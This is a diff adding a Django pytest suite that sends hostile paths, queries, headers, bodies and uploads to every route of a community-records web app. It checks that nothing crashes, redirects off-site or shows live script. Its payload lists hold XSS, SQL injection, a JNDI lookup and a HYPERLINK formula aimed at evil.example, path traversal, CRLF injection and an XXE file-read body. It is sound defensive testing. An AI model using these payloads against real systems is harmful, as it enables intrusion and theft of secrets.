@@ -1,0 +1,514 @@
+"""Whatever arrives — in the path, the query, the head, the body — nothing breaks, nothing is half written, and what
+is shown again is shown as words. Made from the resolver, so that a new address is covered the day it is added."""
+
+import re
+from html.parser import HTMLParser
+from itertools import product
+from urllib.parse import parse_qsl, urlencode, urlsplit
+
+import pytest
+from django.apps import apps
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import DataError, IntegrityError, connection, models, transaction
+from django.test import Client
+from django.urls import get_resolver, reverse
+
+from tests.conftest import _NoWrites
+from tests.test_access import READERS, arguments, query, rows
+from tests.test_house import all_views
+
+HAN = re.compile(r"[一-鿿]")
+SCRIPT = "<script>alert(1)</script>"
+BREAKOUT = "\"'><img src=x onerror=alert(1)><!--"
+TEXTS = [
+    SCRIPT,
+    BREAKOUT,
+    "\x00",
+    "王\x00伟",
+    "张" * 10_000,
+    "²",
+    "١٢٣",
+    "１２３",
+    "😀👨‍👩‍👧",
+    "\u202e反过来\u200b",
+    "' OR 1=1 --",
+    "1); DROP TABLE members_member; --",
+    "%' ESCAPE '",
+    "{{ settings.SECRET_KEY }}{% debug %}",
+    "${jndi:ldap://evil.example/a}",
+    "../../../etc/passwd",
+    "a\r\nSet-Cookie: evil=1",
+    "javascript:alert(1)",
+    "//evil.example/",
+    "https://evil.example/",
+    '=HYPERLINK("http://evil.example")',
+    "[]",
+    "null",
+]
+NUMBERS = ["0", "-1", "1.5", "1e309", "NaN", "2147483648", "9223372036854775807", "9223372036854775808", "9" * 60]
+DAYS = [
+    "2026-02-30",
+    "2026-13-01",
+    "0000-00-00",
+    "99999-12-31",
+    "9999-12-31",
+    "2100年12月31日",
+    "1900-01-01",
+    "30月2日",
+]
+CURSORS = ["~", "~~1", "x~1", "2026-02-30~1", "9999-12-31~1", f"2026-01-01~{'9' * 17}", f"1~{'9' * 30}", "\x00~1", "~²"]
+PAYLOADS = TEXTS + NUMBERS + DAYS + CURSORS
+CHOICES = [SCRIPT, "\x00", "²", "-1", "9" * 60, "张" * 10_000, "[]"]  # 只能从列出的里选的，错法不多
+# 网址里该是编号的地方。
+IDS = ["0", "-1", "²", "٣", "1%00", "%00", "abc", "1.0", "1e3", "9223372036854775808", "9" * 100, "%F0%9F%98%80", "%FF"]
+# 第二步才出表单的页面，要走到第二步。
+NEEDS = {"assignment_new": {"role": "branch_secretary"}}
+# 各页之外，程序里认的查询参数。
+KNOWN_PARAMETERS = ("after", "before", "next", "q", "tab", "view", "year", "community", "done", "what", "role", "model")
+# 剧组的页面上此刻没有表单的那些：要填的项。
+FIELDS = {
+    "demo_switch": ["username"],
+    "material_request": ["year"],
+    "report_submit": ["version"],
+    "report_return": ["comment"],
+}
+# 健康检查的 503 就是它的回答。
+OWN_5XX = {"healthz"}
+PATTERNS = {name: pattern for name, pattern, _ in all_views(get_resolver().url_patterns)}
+
+
+# ── What is looked at in every answer ──
+
+
+class Markup(HTMLParser):
+    """What in a page acts or leads away, and the forms on it."""
+
+    ACTING = ("script", "iframe", "object", "embed", "base", "style")
+
+    def __init__(self, text):
+        super().__init__()
+        self.live, self.forms, self.links, self._form = [], [], [], None
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        attrs = dict(attrs)
+        self._look_for_life(tag, attrs)
+        if tag == "form":
+            self._form = {"method": attrs.get("method", "get").lower(), "action": attrs.get("action", ""), "fields": []}
+            self.forms.append(self._form)
+        elif tag in ("input", "select", "textarea") and self._form is not None and attrs.get("name"):
+            self._form["fields"].append({"tag": tag, "type": attrs.get("type", tag), "options": [], **attrs})
+        elif tag == "option" and self._form and self._form["fields"]:
+            self._form["fields"][-1]["options"].append(attrs.get("value", ""))
+        elif tag == "a":
+            self.links.append(attrs.get("href") or "")
+
+    def handle_endtag(self, tag):
+        if tag == "form":
+            self._form = None
+
+    def _look_for_life(self, tag, attrs):
+        if tag in self.ACTING and not (tag == "script" and (attrs.get("src") or "").startswith("/static/")):
+            self.live.append(tag)
+        self.live += [name for name in attrs if name.startswith("on") or name == "style"]
+        for name in ("href", "src", "action", "formaction"):
+            value = (attrs.get(name) or "").strip()
+            if value and (value.startswith("//") or urlsplit(value).scheme not in ("", "tel", "mailto")):
+                self.live.append(value)
+        if tag == "img" and not (attrs.get("src") or "").startswith(("/", "data:image/")):
+            self.live.append("img")
+
+
+def check(response, name, said):
+    """The answer is whole and harmless. `said` tells which input it answers."""
+    if name not in OWN_5XX:
+        assert response.status_code < 500, said
+    if response.status_code in (301, 302, 303, 307, 308):
+        target = urlsplit(response["Location"])
+        assert not target.netloc, f"{said} 把人送到了别处：{response['Location']}"
+    assert "evil" not in response.cookies, said
+    if response.streaming:
+        response.close()
+        return None
+    if not response.get("Content-Type", "").startswith("text/html") or not response.content:
+        return None
+    text = response.content.decode()
+    page = Markup(text)
+    assert not page.live, f"{said} 页面上有活的东西：{page.live[:3]}"
+    assert "Traceback" not in text, said
+    assert HAN.search(text), f"{said} 没有一个汉字"
+    return page
+
+
+def counts():
+    """How many rows every table has, the session's clock and the counter of wrong passwords apart."""
+    tables = [m._meta.db_table for m in apps.get_models() if m._meta.app_label not in ("sessions", "axes")]
+    with connection.cursor() as cursor:
+        cursor.execute(" UNION ALL ".join(f"SELECT '{table}', COUNT(*) FROM {table}" for table in tables))
+        return dict(cursor.fetchall())
+
+
+def undone(act):
+    """The value of `act()`; what it wrote is taken back."""
+    with transaction.atomic():
+        value = act()
+        transaction.set_rollback(True)
+    return value
+
+
+# ── Who asks, and for what: the table of tests/test_access.py ──
+
+
+def new_client(place, reader, **settings):
+    client = Client(**settings)
+    if reader != "没有登录":
+        client.force_login(place.user[reader], backend="django.contrib.auth.backends.ModelBackend")
+    return client
+
+
+def read(client, url, data=None, **extra):
+    """A GET during which nothing may be written but the session's clock."""
+    with connection.execute_wrapper(_NoWrites()):
+        return client.get(url, data, **extra)
+
+
+class Door:
+    """One row of the table with the first reader whom it lets in (or whom it refuses, where it lets nobody in)."""
+
+    def __init__(self, place, name, method, target, marks):
+        self.place, self.name, self.method, self.target = place, name, method, target
+        self.reader = READERS[next((at for at, mark in enumerate(marks) if mark in "23"), 0)]
+        self.url = reverse(name, args=arguments(place, name, target))
+        self.query = dict(parse_qsl(query(place, target).lstrip("?"))) | NEEDS.get(name, {})
+        self.full = self.url + (f"?{urlencode(self.query)}" if self.query else "")
+
+    def client(self, **settings):
+        return new_client(self.place, self.reader, **settings)
+
+    def page(self):
+        return check(self.client().get(self.full), self.name, f"{self.name} 原样")
+
+
+def opened(method):
+    """Test the rows of the table with that method, as `door`."""
+    chosen = [row for row in rows() if row[1] == method]
+    return pytest.mark.parametrize("row", chosen, ids=[f"{row[0]}-{row[2]}" for row in chosen])
+
+
+@pytest.fixture
+def door(place, row):
+    return Door(place, *row)
+
+
+# ── Paths and methods ──
+
+
+@pytest.mark.parametrize("name", sorted(name for name, pattern in PATTERNS.items() if "<" in pattern))
+def test_paths_that_name_nothing(place, name):
+    clients = [new_client(place, reader) for reader in ("社区书记", "系统管理员", "没有登录")]
+    before = counts()
+    for number in IDS:
+        path = "/" + re.sub(r"<\w+:\w+>", number, PATTERNS[name])
+        for client, method in product(clients, ("GET", "POST")):
+            said = f"{method} {path[:80]}"
+            response = client.generic(method, path)
+            check(response, name, said)
+            assert response.status_code in (302, 400, 403, 404, 405), f"{said}：{response.status_code}"
+            if response.status_code == 302:
+                assert response["Location"].startswith("/login/"), said
+    assert counts() == before
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/x", "//evil.example/", "/%2e%2e/etc/passwd", "/%00", "/%FF%FE", "/😀/", "/people/%0d%0aSet-Cookie:evil=1/"]
+    + ["/.git/config", "/static/../config/settings.py", "/static/%2e%2e/config/settings.py", "/admin/", "/people//"]
+    + ["/" + "a" * 5000],
+)
+@pytest.mark.parametrize("reader", ["社区书记", "没有登录"])
+def test_paths_of_no_page(place, path, reader):
+    response = new_client(place, reader).get(path)
+    check(response, "", path[:80])
+    assert response.status_code in (301, 302, 400, 404), path[:80]
+
+
+@opened("GET")
+def test_methods_the_address_does_not_know(door):
+    client = door.client()
+    before = counts()
+    for method in ("PUT", "PATCH", "DELETE", "TRACE", "OPTIONS", "PROPFIND", "X" * 40):
+        assert client.generic(method, door.full).status_code in (403, 405), method
+    assert client.head(door.full).status_code in (client.get(door.full).status_code, 405)
+    assert counts() == before
+
+
+@opened("POST")
+def test_a_form_from_elsewhere_is_refused(door):
+    before = counts()
+    response = door.client(enforce_csrf_checks=True).post(door.full, {"text": "写了很久的一段话，不该丢"})
+    page = check(response, door.name, "没有令牌")
+    assert response.status_code == 403
+    assert page is not None
+    assert counts() == before
+
+
+# ── Queries ──
+
+
+def parameters(door):
+    """{name: whether it is a choice} of every query the page's own forms and links use."""
+    page = door.page()
+    names = dict.fromkeys(door.query, False)
+    for link in page.links if page else []:
+        if link.startswith(("?", door.url)):
+            names |= dict.fromkeys(dict(parse_qsl(urlsplit(link).query, keep_blank_values=True)), False)
+    for form in page.forms if page else []:
+        if form["method"] == "get" and form["action"] in ("", door.url):
+            names |= {each["name"]: each["tag"] == "select" for each in form["fields"]}
+    return names
+
+
+@opened("GET")
+def test_hostile_queries(door):
+    client = door.client()
+    for name, is_choice in parameters(door).items():
+        for payload in CHOICES if is_choice else PAYLOADS:
+            said = f"{door.url}?{name}={payload[:40]!r}"
+            check(read(client, door.url, door.query | {name: payload}), door.name, said)
+    for payload in PAYLOADS:
+        said = f"{door.url} 各参数都是 {payload[:40]!r}"
+        check(read(client, door.url, dict.fromkeys(KNOWN_PARAMETERS, payload) | door.query), door.name, said)
+
+
+@opened("GET")
+def test_queries_that_are_no_queries(door):
+    client = door.client()
+    for text in [
+        "%",
+        "%FF=%FE",
+        "q=%00&q=1&q=",
+        "q[]=1&q[$ne]=x",
+        "&&&=",
+        "=" * 500,
+        "a=1;b=2",
+        "after=1~1&after=~&after",
+    ]:
+        check(read(client, f"{door.url}?{text}"), door.name, text[:40])
+    many = "&".join(f"a{number}=1" for number in range(5000))
+    check(read(client, f"{door.url}?{many}"), door.name, "五千个参数")
+
+
+# ── Heads ──
+
+HEADS = [
+    {"HTTP_HOST": "evil.example"},
+    {"HTTP_HOST": "evil.example:99999"},
+    {"HTTP_HOST": "<script>"},
+    {"HTTP_HOST": "a\x00b"},
+    {"HTTP_HOST": ""},
+    {
+        "HTTP_X_FORWARDED_HOST": "evil.example",
+        "HTTP_X_FORWARDED_PROTO": "gopher",
+        "HTTP_X_FORWARDED_FOR": "x, 999.1.1.1",
+    },
+    {"HTTP_ACCEPT_LANGUAGE": "xx-" + "y" * 5000 + ";q=abc,\x00"},
+    {"HTTP_REFERER": "http://[::1"},
+    {"HTTP_REFERER": SCRIPT},
+    {"HTTP_REFERER": "http://testserver/" + "张" * 3000},
+    {"HTTP_REFERER": "http://testserver/people/?q=王伟"},
+    {"HTTP_REFERER": "javascript:alert(1)"},
+    {
+        "HTTP_ACCEPT": "\x00",
+        "HTTP_ACCEPT_ENCODING": "x" * 5000,
+        "HTTP_IF_MODIFIED_SINCE": "²",
+        "HTTP_RANGE": "bytes=9-1",
+    },
+    {"HTTP_COOKIE": "session=" + "a" * 8000},
+    {"HTTP_COOKIE": 'session=\x00; csrf=²; text_size=<script>; messages=[["x"; =; ;;'},
+    {"HTTP_COOKIE": "session=../../etc/passwd; text_size=" + "xl" * 500},
+    {"REMOTE_ADDR": "no address"},
+    {"QUERY_STRING": "\xff\xfe%"},
+]
+
+
+@opened("GET")
+def test_hostile_heads(door):
+    for head in HEADS:
+        said = f"{door.name} {str(head)[:60]}"
+        response = door.client().get(door.full, **head)
+        check(response, door.name, said)
+        assert response.status_code in (200, 302, 400, 403, 404, 503), said
+        check(new_client(door.place, "没有登录").get(door.full, **head), door.name, f"没有登录 {said}")
+
+
+# ── Bodies ──
+
+ORDINARY = {"phone": "13800138000", "username": "zhaoliu", "password": "wrong-Password-1", "token": None}
+ORDINARY_TEXT = "按上级要求核对名册"
+
+
+def own_forms(door):
+    """The forms that are sent to this address, from whichever page of the reader's shows them."""
+    for name, method, target, marks in sorted(rows(), key=lambda row: row[0] != door.name):
+        if method == "GET" and marks[READERS.index(door.reader)] == "2" and name not in OWN_5XX:
+            there = Door(door.place, name, method, target, marks)
+            page = check(door.client().get(there.full), name, name)
+            forms = [f for f in page.forms if sent_to(f, there.url) == door.url] if page else []
+            if forms:
+                return forms
+    fields = [{"tag": "input", "type": "text", "name": each} for each in FIELDS.get(door.name, ())]
+    return [{"fields": fields}]
+
+
+def sent_to(form, url):
+    return form["method"] == "post" and (form["action"].partition("?")[0] or url)
+
+
+def ordinary(form):
+    """What a reasonable person would fill in."""
+    data = {}
+    for each in form["fields"]:
+        data.setdefault(each["name"], ordinary_value(each))
+    data.pop("csrfmiddlewaretoken", None)
+    return {key: value for key, value in data.items() if value is not None}
+
+
+def ordinary_value(each):
+    if each["type"] == "file":
+        return SimpleUploadedFile("名册.xlsx", b"not a workbook")
+    if each["tag"] == "select":
+        return next((value for value in each["options"] if value), "")
+    if each["type"] in ("hidden", "radio", "checkbox"):
+        return each.get("value", "")
+    if each["name"].endswith(("_on", "on")):
+        return "今天"
+    return ORDINARY.get(each["name"]) or ORDINARY_TEXT
+
+
+def send(door, data, said, **extra):
+    """Post it: refused means that no row was added or taken away. What was written is undone."""
+
+    def act():
+        before = counts()
+        response = door.client().post(door.full, data, **extra)
+        check(response, door.name, said)
+        refused = response.status_code >= 400 or (response.status_code == 200 and b'id="errors"' in response.content)
+        if refused:
+            changed = {table for table, count in counts().items() if count != before[table]}
+            # 记下被拒绝的登录，是规矩本身。
+            assert changed <= ({"audit_trail"} if door.name in ("login", "password_change") else set()), said
+        return response
+
+    return undone(act)
+
+
+@opened("POST")
+def test_hostile_fields(door):
+    name = door.name
+    for form in own_forms(door):
+        base = ordinary(form)
+        send(door, base, f"{name} 照常填写")
+        for each in form["fields"]:
+            if (field := each["name"]) not in base:
+                continue
+            for payload in CHOICES if each["type"] in ("select", "radio", "checkbox") else PAYLOADS:
+                send(door, base | {field: payload}, f"{name} 的 {field}={payload[:40]!r}")
+            send(door, {k: v for k, v in base.items() if k != field}, f"{name} 缺 {field}")
+            send(door, base | {field: ["a", "b", SCRIPT]}, f"{name} 的 {field} 有三个")
+        for payload in PAYLOADS:
+            send(door, dict.fromkeys(base, payload), f"{name} 各项都是 {payload[:40]!r}")
+
+
+BODIES = [
+    ("application/json", b'{"a": [1, 2'),
+    ("application/x-www-form-urlencoded", b"\xff\xfe%zz&&=&a=%00"),
+    ("application/x-www-form-urlencoded; charset=no-such", b"a=1"),
+    ("multipart/form-data", b"no boundary"),
+    (
+        "multipart/form-data; boundary=x",
+        b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../a.xlsx"\r\n\r\n',
+    ),
+    ("multipart/form-data; boundary=\xff", b"--x--"),
+    ("text/xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
+    ("", b"\x00" * 100),
+    ("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(2500))),
+    ("application/x-www-form-urlencoded", b"text=" + b"a" * 3_000_000),
+]
+
+
+@opened("POST")
+def test_bodies_that_are_no_forms(door):
+    before = counts()
+    for kind, body in BODIES:
+        said = f"{door.name} {kind} {body[:20]!r}"
+        client = door.client()
+        response = undone(lambda c=client, b=body, k=kind: c.post(door.full, b, content_type=k))
+        check(response, door.name, said)
+    assert counts() == before
+
+
+UPLOADS = {
+    "空.xlsx": b"",
+    "名册.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
+    "名册.xlsx": b"PK\x03\x04" + b"\x00" * 200,
+    "../../../名册.xlsx": b"PK\x05\x06" + b"\x00" * 18,
+    "名\x00册.xlsx": b"<html>",
+    "张" * 300 + ".xlsx": b"a,b,c",
+    "脚本.exe": b"MZ",
+}
+
+
+@pytest.mark.parametrize("file_name", UPLOADS, ids=lambda name: name[:12].replace("\x00", "0"))
+def test_hostile_uploads(place, file_name):
+    door = Door(place, *next(row for row in rows() if row[:2] == ("roster_import", "POST")))
+    response = send(door, {"file": SimpleUploadedFile(file_name, UPLOADS[file_name])}, file_name[:12])
+    assert response.status_code == 200
+    assert b'id="errors"' in response.content
+
+
+# ── What is stored ──
+
+
+def poison():
+    """Hostile words in every free text of every row, as far as the column takes them; the columns that took them."""
+    poisoned = set()
+    for model in apps.get_models():
+        if model._meta.app_label in ("sessions", "contenttypes", "auth", "axes", "audit"):
+            continue
+        for field in model._meta.concrete_fields:
+            is_text = isinstance(field, (models.CharField, models.TextField))
+            if is_text and not (field.choices or field.unique or field.name == "password"):
+                room = (field.max_length or 1000) - 8
+                words = next(w for w in (SCRIPT, BREAKOUT, "<i>", "") if len(w) <= room or not w)
+                if words and put(model, field, words):
+                    poisoned.add(f"{model.__name__}.{field.name}")
+    return poisoned
+
+
+def put(model, field, words):
+    """Write the words and the row's number into the column of every row, past all deeds; False where the database
+    refuses it."""
+    table, column, key = model._meta.db_table, field.column, model._meta.pk.column
+    try:
+        with transaction.atomic(), connection.cursor() as cursor:
+            cursor.execute(f'UPDATE {table} SET "{column}" = %s || CAST("{key}" AS varchar(8))', [words])
+            return cursor.rowcount > 0
+    except (IntegrityError, DataError):
+        return False
+
+
+def test_what_is_stored_is_shown_as_words(place):
+    doors = [Door(place, *row) for row in rows() if row[1] == "GET"]
+    marks = {(row[0], row[2]): row[3] for row in rows() if row[1] == "GET"}
+    poisoned = poison()
+    assert {"Person.name", "Compound.name", "Meeting.title", "Decision.text", "User.name"} <= poisoned
+    shown = set()
+    for at, reader in enumerate(READERS):
+        client = new_client(place, reader)
+        for door in doors:
+            if marks[door.name, door.target][at] == "2":
+                response = client.get(door.full, {"q": "<"} if door.name == "find" else None)
+                page = check(response, door.name, f"{door.name}，读者 {reader}")
+                if page and b"&lt;script&gt;" in response.content:
+                    shown.add(door.name)
+    assert {"home", "compound", "branch", "committee", "meeting", "person", "members", "find", "materials"} <= shown
